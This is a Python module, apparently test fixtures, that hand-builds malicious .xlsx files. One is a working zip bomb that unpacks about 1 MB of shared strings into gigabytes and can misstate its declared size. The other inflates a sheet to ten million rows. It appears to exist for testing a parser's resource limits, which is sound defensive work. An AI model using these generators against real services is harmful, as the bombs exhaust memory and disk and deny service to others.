"""Hostile .xlsx files as attackers make them, built in memory in a fraction of a second.

A real zip bomb: deflate compresses a megabyte of one repeated byte to about a kilobyte,
and after a full flush the same megabyte compresses to the same bytes, so a gigabyte of
content is that kilobyte written a thousand times (its CRC is computed honestly). The zip
is written by hand, as an attacker would, since `zipfile` only writes what it compresses.
"""

import struct
import zlib
from io import BytesIO

from openpyxl import Workbook

MIB = 1 << 20


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def _repeated(prefix: bytes, unit: bytes, times: int, suffix: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of prefix + unit * times + suffix; (data, crc, size), without building it."""
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(unit) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(unit) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert block == again, "deflate does not repeat itself here"
    tail = compressor.compress(suffix) + compressor.flush()
    crc = zlib.crc32(prefix)
    for _ in range(times):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(suffix, crc)
    data = head + block * times + tail
    return data, crc, len(prefix) + len(unit) * times + len(suffix)


def _zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip archive of already deflated entries: (name, raw deflate, crc, size)."""
    out, directory = BytesIO(), BytesIO()
    for name, data, crc, size in entries:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data),
                              size, len(encoded), 0))  # fmt: skip
        out.write(encoded)
        out.write(data)
        fields = (0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), size, len(encoded), 0, 0, 0,
                  0, 0, offset)  # fmt: skip
        directory.write(struct.pack("<IHHHHHHIIIHHHHHII", *fields))
        directory.write(encoded)
    start = out.tell()
    out.write(directory.getvalue())
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries),
                          len(directory.getvalue()), start, 0))  # fmt: skip
    return out.getvalue()


def _template() -> dict[str, bytes]:
    """The parts of a small real workbook (openpyxl's), by name."""
    import zipfile

    book = Workbook()
    book.active.append(["STT", "Họ và tên", "Số điện thoại", "Vai trò trong Tổ"])
    book.active.append([1, "Lò Văn Thanh", "0912345678", "Tổ trưởng"])
    buffer = BytesIO()
    book.save(buffer)
    archive = zipfile.ZipFile(buffer)
    return {name: archive.read(name) for name in archive.namelist()}


def _with(part: str, data: bytes, crc: int, size: int, extra_types: bytes = b"") -> bytes:
    parts = _template()
    if extra_types:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>", extra_types + b"</Types>"
        )
        parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
            b"</Relationships>",
            b'<Relationship Id="rIdBomb" Target="sharedStrings.xml" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>'
            b"</Relationships>",
        )
    entries = [(n, _deflate(c), zlib.crc32(c), len(c)) for n, c in parts.items() if n != part]
    return _zip([*entries, (part, data, crc, size)])


def shared_string_bomb(gib: int = 1, declared: int | None = None) -> bytes:
    """One shared string of `gib` GiB of "A" (about 1 MB on disk); `declared` lies about
    its unpacked size in the archive's directory."""
    data, crc, size = _repeated(
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>',
        b"A" * MIB,
        1024 * gib,
        b"</t></si></sst>",
    )
    return _with(
        "xl/sharedStrings.xml",
        data,
        crc,
        declared or size,
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.sharedStrings+xml"/>',
    )


def many_rows_bomb(rows: int = 10_000_000) -> bytes:
    """A sheet of `rows` rows, each with one number in an otherwise unused column."""
    unit = b'<row><c t="n"><v>1</v></c></row>' * 1000
    data, crc, size = _repeated(
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
        b'.org/spreadsheetml/2006/main"><sheetData>',
        unit,
        rows // 1000,
        b"</sheetData></worksheet>",
    )
    return _with("xl/worksheets/sheet1.xml", data, crc, size)
